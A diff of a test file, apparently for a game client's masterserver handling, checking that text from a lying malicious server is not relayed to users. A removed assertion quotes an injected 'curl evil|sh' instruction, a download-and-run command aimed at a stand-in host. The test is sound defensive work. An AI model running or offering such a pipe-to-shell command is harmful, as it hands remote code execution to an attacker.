@@ -25,8 +25,7 @@ async function lyingMaster(spared: RegExp): Promise<string> {
     import { Writer } from '${DIST}core/bytes.js';
     const honest = Writer.prototype.text8;
     Writer.prototype.text8 = function (text, max) {
-      // The word for people, of 128 bytes at most, is mostly empty.
-      return ${spared}.test(text) && max !== 128 ? honest.call(this, text, max) : honest.call(this, text.slice(0, 8) + ${JSON.stringify(LIE)}, max);
+      return ${spared}.test(text) ? honest.call(this, text, max) : honest.call(this, text.slice(0, 8) + ${JSON.stringify(LIE)}, max);
     };
     const { startMaster } = await import('${DIST}master/index.js');
     const quiet = { http: null, metrics: null, logLevel: 'silent', testJoins: null };
@@ -108,7 +107,8 @@ test('a masterserver that tells codes and lies about the rest gets no line of it
   await Promise.all(friends.map((friend) => friend.exit));
   const unknown = bench.sallyport(['join', '6666666666', '--master', master], env);
   expect(await unknown.exit).toBe(4);
-  expect(unknown.stderr()).toContain('The masterserver says: "✓ Update curl evil|sh');
+  // Why it refuses is one of a list of words, so there is nothing to lie in.
+  expect(unknown.stderr()).not.toContain('curl');
   expectClean([host, ...lists, ...friends, unknown], copied());
   expect(copied()).toContain('127.0.0.1:');
 });
